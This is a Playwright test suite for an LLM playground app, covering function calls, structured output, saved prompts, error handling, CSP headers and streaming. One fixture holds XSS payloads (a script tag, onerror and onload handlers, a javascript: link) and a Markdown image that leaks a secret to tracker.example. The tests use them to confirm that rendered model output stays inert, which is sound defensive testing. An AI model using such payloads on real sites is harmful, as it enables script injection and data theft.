// Journeys: the playground as a workbench — a function call answered by hand, a JSON-schema reply
// that validates, file search over a vector store, code that reproduces the page's answer, saved
// prompts, compare, upstream errors, untrusted Markdown, the CSP, and a long answer that streams
// without freezing the page.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { PlaygroundPage } from "./pages/playground-page";
import { expect, test } from "./support/fixtures";
import { APP_URL, SANDBOX_KEY } from "./support/instance";

test("a function call round trip: the model calls, the user types the output, the turn goes on", async ({ page, ownerApi }) => {
  const project = await ownerApi.createProject("Tools lab");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);

  await page.getByRole("button", { name: "Add function" }).click();
  const schema = page.getByRole("textbox", { name: "Function parameters (JSON schema)" });
  await expect(page.getByRole("status", { name: "Function get_weather check" })).toHaveText("Schema OK for strict mode");
  await test.step("the schema is checked as typed, with strict mode's rules", async () => {
    const good = await schema.inputValue();
    await schema.fill('{"type": "object", "properties": {"city": {"type": "string"}}}');
    await expect(page.getByRole("status", { name: "Function get_weather check" })).toContainText('"additionalProperties": false');
    await expect(page.getByRole("status", { name: "Function get_weather check" })).toContainText("missing: city");
    await schema.fill('{"type": "object",');
    await expect(page.getByRole("status", { name: "Function get_weather check" })).toContainText("Not valid JSON");
    await schema.fill(good);
  });

  await playground.message.fill("What is the weather in Lisbon? Use get_weather.");
  await playground.message.press("ControlOrMeta+Enter");
  const call = playground.messageItem(2).getByRole("region", { name: "Call of get_weather" });
  await expect(call).toContainText('"city"');
  const output = page.getByRole("textbox", { name: "Output of get_weather" });
  await expect(output).toBeVisible();
  await output.fill('{"temperature_c": 21, "conditions": "sunny"}');
  const sent = page.waitForRequest((request) => request.url().endsWith("/openai/v1/responses") && request.method() === "POST");
  await output.press("ControlOrMeta+Enter");
  const body = (await sent).postDataJSON();
  expect(body.previous_response_id).toMatch(/^resp_/);
  expect(body.input).toEqual([
    { type: "function_call_output", call_id: expect.stringMatching(/^call_/), output: '{"temperature_c": 21, "conditions": "sunny"}' },
  ]);
  await expect(playground.answer(4)).toContainText("The function get_weather returned");
});

test("a JSON-schema answer is pretty-printed and validated; file search uses the picked store", async ({ page, ownerApi }) => {
  const project = await ownerApi.createProject("Structured lab");
  const store = await page.request.post(`/api/projects/${project.id}/openai/v1/vector_stores`, {
    data: { name: "Handbook" },
    headers: { origin: APP_URL },
  });
  expect(store.status()).toBe(200);
  const storeId = (await store.json()).id as string;
  const playground = new PlaygroundPage(page);

  await test.step("the vector store page's link opens the playground with file_search on that store", async () => {
    await page.goto(`/${project.id}/vector-stores/${storeId}`);
    await page.getByRole("link", { name: "Use in playground" }).click();
    await expect(page.getByRole("checkbox", { name: "File search" })).toBeChecked();
    await expect(page.getByRole("checkbox", { name: "Handbook" })).toBeChecked();
    await playground.message.fill("What does the handbook say about holidays?");
    const sent = page.waitForRequest((request) => request.url().endsWith("/openai/v1/responses") && request.method() === "POST");
    await playground.message.press("ControlOrMeta+Enter");
    expect((await sent).postDataJSON().tools).toEqual([{ type: "file_search", vector_store_ids: [storeId] }]);
    await expect(playground.answer(2)).toContainText("The file search found nothing");
    await expect(playground.stat("Status")).toHaveText("Completed");
    await page.getByRole("checkbox", { name: "File search" }).uncheck();
  });

  await test.step("JSON schema: the reply matches", async () => {
    await page.getByRole("button", { name: "Clear" }).click();
    await page.getByRole("combobox", { name: "Format" }).selectOption("json_schema");
    await expect(page.getByRole("status", { name: "Schema check" })).toHaveText("Schema OK for strict mode");
    await playground.message.fill("Weather report for Porto");
    await playground.message.press("ControlOrMeta+Enter");
    await expect(playground.messageItem(2).getByRole("status", { name: "Reply check" })).toHaveText("Valid JSON, matches the schema");
    await expect(playground.messageItem(2).locator("pre").first()).toContainText('"temperature_c":');
  });
});

test("the JavaScript snippet of the code view, run with Node against the sandbox, writes what the page shows", async ({
  page,
  ownerApi,
}) => {
  const project = await ownerApi.createProject("Code lab");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);
  await page.getByLabel("Instructions").fill("Answer plainly.");
  await playground.message.fill("Describe a lighthouse keeper's morning");
  await playground.message.press("ControlOrMeta+Enter");
  await expect(playground.stat("Status")).toHaveText("Completed");
  const shown = ((await playground.answer(2).textContent()) ?? "").replace(/\s+/g, " ").trim();

  await playground.view("Code").click();
  await page.getByRole("tab", { name: "JavaScript" }).click();
  const code = (await page.getByTestId("code-snippet").textContent()) ?? "";
  expect(code).toContain("new OpenAI()");
  expect(code).not.toMatch(/sk-/);
  const file = path.join(process.cwd(), "test-results", `snippet-${Date.now()}.mjs`);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, code);
  const printed = execFileSync(process.execPath, [file], {
    env: { ...process.env, OPENAI_API_KEY: SANDBOX_KEY, OPENAI_BASE_URL: `${APP_URL}/sandbox/v1` },
    encoding: "utf8",
    timeout: 30_000,
  });
  expect(printed.replace(/\s+/g, " ").trim()).toBe(shown);

  await page.getByRole("checkbox", { name: /Through Switchboard's gateway/ }).check();
  await expect(page.getByTestId("code-snippet")).toContainText(`baseURL: "${APP_URL}/v1"`);
  await page.getByRole("tab", { name: "Python" }).click();
  await expect(page.getByTestId("code-snippet")).toContainText(`OpenAI(base_url="${APP_URL}/v1")`);
  await page.getByRole("tab", { name: "curl" }).click();
  await expect(page.getByTestId("code-snippet")).toContainText("Authorization: Bearer $OPENAI_API_KEY");

  await playground.view("Raw").click();
  await expect(page.getByRole("region", { name: "Request sent" })).toContainText('"instructions": "Answer plainly."');
  await expect(page.getByRole("region", { name: "Response received" })).toContainText("response.output_text.delta");
});

test("save → reload → reopen is identical, and a shared link opens the same version", async ({ page, ownerApi, browser }) => {
  const project = await ownerApi.createProject("Prompt library");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);
  await playground.chooseApi("Chat Completions");
  await page.getByLabel("Developer message").fill("You triage support tickets.");
  await page.getByLabel("Temperature").fill("0.3");
  await page.getByLabel("Seed").fill("42");
  await page.getByRole("button", { name: "Add function" }).click();
  await playground.message.fill("My printer is on fire");
  await playground.message.press("ControlOrMeta+Enter");
  await expect(playground.stat("Status")).toHaveText("Completed");
  await expect(playground.stat("Cost")).toHaveText(/^\$/);

  await page.getByLabel("Prompt name").fill("Triage");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.getByText("Triage · v1")).toBeVisible();
  await expect(page).toHaveURL(/\?prompt=.+&version=1/);
  const shared = page.url();

  await test.step("the page's state survives a reload", async () => {
    await page.reload();
    await expect(page.getByLabel("Developer message")).toHaveValue("You triage support tickets.");
    await expect(playground.api("Chat Completions")).toBeChecked();
    await expect(page.getByLabel("Temperature")).toHaveValue("0.3");
    await expect(page.getByLabel("Seed")).toHaveValue("42");
    await expect(page.getByRole("textbox", { name: "Function name" })).toHaveValue("get_weather");
    await expect(playground.messageItem(2)).toBeVisible();
  });

  await test.step("a second version, then reopening version 1 as saved", async () => {
    await page.getByLabel("Developer message").fill("Changed.");
    await page.getByRole("button", { name: "Save new version" }).click();
    await expect(page.getByText("Triage · v2")).toBeVisible();
    await page.getByRole("button", { name: "Clear" }).click();
    await page.getByLabel("Version").selectOption("1");
    await expect(page.getByLabel("Developer message")).toHaveValue("You triage support tickets.");
    await expect(playground.messageItem(2)).toBeVisible();
  });

  await test.step("a colleague's browser opens the shared link as saved", async () => {
    const context = await browser.newContext({ storageState: await page.context().storageState() });
    const other = await context.newPage();
    await other.goto(shared);
    await expect(other.getByLabel("Developer message")).toHaveValue("You triage support tickets.");
    await expect(other.getByLabel("Seed")).toHaveValue("42");
    await expect(other.getByRole("textbox", { name: "Message 1 text" })).toHaveValue("My printer is on fire");
    await context.close();
  });
});

test("compare streams two models side by side with tokens and cost under each", async ({ page, ownerApi }) => {
  const project = await ownerApi.createProject("Compare lab");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);
  await playground.message.fill("Explain tides to a child");
  await playground.view("Compare").click();
  await page.getByLabel("Column 1 model").selectOption("sandbox-chat");
  await page.getByLabel("Column 2 model").selectOption("sandbox-chat-mini");
  await page.getByRole("button", { name: "Run all" }).click();
  for (const column of ["Column 1", "Column 2"]) {
    const stats = page.getByLabel(`${column} stats`);
    await expect(stats).toContainText("Completed");
    await expect(stats).toContainText("$");
    await expect(page.getByRole("region", { name: `${column} answer` })).toContainText(/\w+/);
  }
  await expect(page.getByLabel("Column 2 stats")).toContainText("sandbox-chat-mini");
});

test("an upstream 429 shows its message and what to do, and keeps the input", async ({ page, ownerApi }) => {
  const project = await ownerApi.createProject("Busy lab");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);
  await page.route("**/openai/v1/responses", (route) =>
    route.continue({ headers: { ...route.request().headers(), "x-sandbox-fault": "429" } }),
  );
  await playground.message.fill("Please do not lose this carefully written message");
  await playground.message.press("ControlOrMeta+Enter");
  const alert = page.getByRole("alert").filter({ hasText: "429" });
  await expect(alert).toContainText("Rate limit reached");
  await expect(alert).toContainText("wait a moment");
  await expect(playground.message).toHaveValue("Please do not lose this carefully written message");
  await expect(playground.messageItem(1)).toHaveCount(0);
});

const HOSTILE = [
  "Here is a report.",
  "",
  "<script>window.__pwned = 'script'</script>",
  "",
  '<img src="x" onerror="window.__pwned = \'img\'">',
  "",
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  "",
  "[Click me](javascript:window.__pwned='link')",
  "",
  "![chart](https://tracker.example/leak.png?secret=abc)",
  "",
  "```js",
  'const greeting = "hello";',
  "```",
].join("\n");

function sse(events: Record<string, unknown>[]): string {
  return events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join("");
}

test("Markdown from the model is inert: no script, handler, SVG or javascript: link runs, and images wait for a click", async ({
  page,
  ownerApi,
}) => {
  const project = await ownerApi.createProject("Injection lab");
  const playground = new PlaygroundPage(page);
  const leaks: string[] = [];
  await page.route("https://tracker.example/**", (route) => {
    leaks.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  const response = {
    id: "resp_fake",
    object: "response",
    model: "sandbox-chat",
    status: "completed",
    output: [],
    usage: {
      input_tokens: 5,
      output_tokens: 50,
      input_tokens_details: { cached_tokens: 0 },
      output_tokens_details: { reasoning_tokens: 0 },
    },
  };
  await page.route("**/openai/v1/responses", (route) =>
    route.fulfill({
      status: 200,
      headers: { "content-type": "text/event-stream", "x-request-id": "req_fake" },
      body: sse([
        { type: "response.created", sequence_number: 0, response: { ...response, status: "in_progress" } },
        ...(HOSTILE.match(/[\s\S]{1,12}/g) ?? []).map((delta, i) => ({
          type: "response.output_text.delta",
          sequence_number: i + 1,
          item_id: "msg_1",
          output_index: 0,
          content_index: 0,
          delta,
        })),
        { type: "response.completed", sequence_number: 999, response },
      ]),
    }),
  );
  await playground.goto(project.id);
  await playground.message.fill("Summarise the report");
  await playground.message.press("ControlOrMeta+Enter");
  const answer = playground.answer(2);
  await expect(answer).toContainText("Here is a report.");
  await expect(answer).toContainText("<script>");
  expect(await answer.locator("script, svg, img, [onerror], [onload]").count()).toBe(0);
  const link = answer.getByRole("link", { name: "Click me" });
  expect(await link.getAttribute("href")).not.toMatch(/^javascript:/i);
  await link.click({ modifiers: [] }).catch(() => undefined);
  await expect(answer.locator("code[data-language=js] span").first()).toHaveText("const");
  await expect(answer.getByRole("button", { name: "Copy" })).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(leaks).toEqual([]);
  await answer.getByRole("button", { name: /from tracker\.example — not loaded/ }).click();
  await expect.poll(() => leaks.length).toBe(1);
});

test("the app sends a Content-Security-Policy that forbids inline script, and pages still work under it", async ({ page, ownerApi }) => {
  const project = await ownerApi.createProject("CSP lab");
  const violations: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  const response = await page.goto(`/${project.id}/playground`);
  const policy = response?.headers()["content-security-policy"] ?? "";
  const scriptSrc = policy.split(";").find((part) => part.trim().startsWith("script-src ")) ?? "";
  expect(scriptSrc).toMatch(/'nonce-[A-Za-z0-9+/=]+'/);
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  expect(policy).toContain("script-src-attr 'none'");
  const playground = new PlaygroundPage(page);
  await expect(playground.model).toHaveValue(/sandbox-chat/);
  // An inline event handler, as injected markup would carry, is refused and reported.
  const outcome = await page.evaluate(
    () =>
      new Promise<{ ran: boolean; blocked: string }>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve({ ran: false, blocked: event.violatedDirective }), {
          once: true,
        });
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.__inline = true");
        document.body.append(button);
        button.click();
        setTimeout(() => resolve({ ran: (window as unknown as { __inline?: boolean }).__inline === true, blocked: "" }), 1000);
      }),
  );
  expect(outcome).toEqual({ ran: false, blocked: "script-src-attr" });
  // Nothing of the app itself was refused.
  expect(violations.filter((v) => !v.includes("script-src-attr"))).toEqual([]);
});

test("a 5,000-token answer streams without freezing the page (longest main-thread task printed)", async ({ page, ownerApi }) => {
  test.setTimeout(120_000);
  const project = await ownerApi.createProject("Long answers");
  const playground = new PlaygroundPage(page);
  await playground.goto(project.id);
  await page.evaluate(() => {
    const w = window as unknown as { __longest: number; __tasks: number };
    w.__longest = 0;
    w.__tasks = 0;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        w.__tasks++;
        w.__longest = Math.max(w.__longest, entry.duration);
      }
    }).observe({ type: "longtask" });
  });
  await page.route("**/openai/v1/responses", (route) =>
    route.continue({ headers: { ...route.request().headers(), "x-sandbox-fault": "fast-tokens" } }),
  );
  await playground.message.fill("Write 3900 words about harbours, tides and lighthouses");
  const started = Date.now();
  await playground.message.press("ControlOrMeta+Enter");
  await expect(playground.inProgress).toBeVisible();
  await expect(playground.stat("Status")).toHaveText("Completed", { timeout: 90_000 });
  const tokens = Number(await playground.stat("Tokens out").textContent());
  const { longest, tasks } = await page.evaluate(() => {
    const w = window as unknown as { __longest: number; __tasks: number };
    return { longest: w.__longest, tasks: w.__tasks };
  });
  console.log(
    `[long answer] ${tokens} tokens streamed in ${Date.now() - started} ms; longest main-thread task ${Math.round(longest)} ms (${tasks} tasks over 50 ms)`,
  );
  expect(tokens).toBeGreaterThanOrEqual(5000);
  // The longest task is printed, not held to a tight bound: on a 2-core machine under load it has
  // measured 106–519 ms with piecewise parsing, and re-parsing the whole answer every frame 449 ms,
  // so wall time cannot tell the two apart. The unit test "streams Markdown so that each new token
  // re-parses only the answer's last piece" guards that; this bound catches a page that freezes.
  expect(longest).toBeLessThan(1500);
});
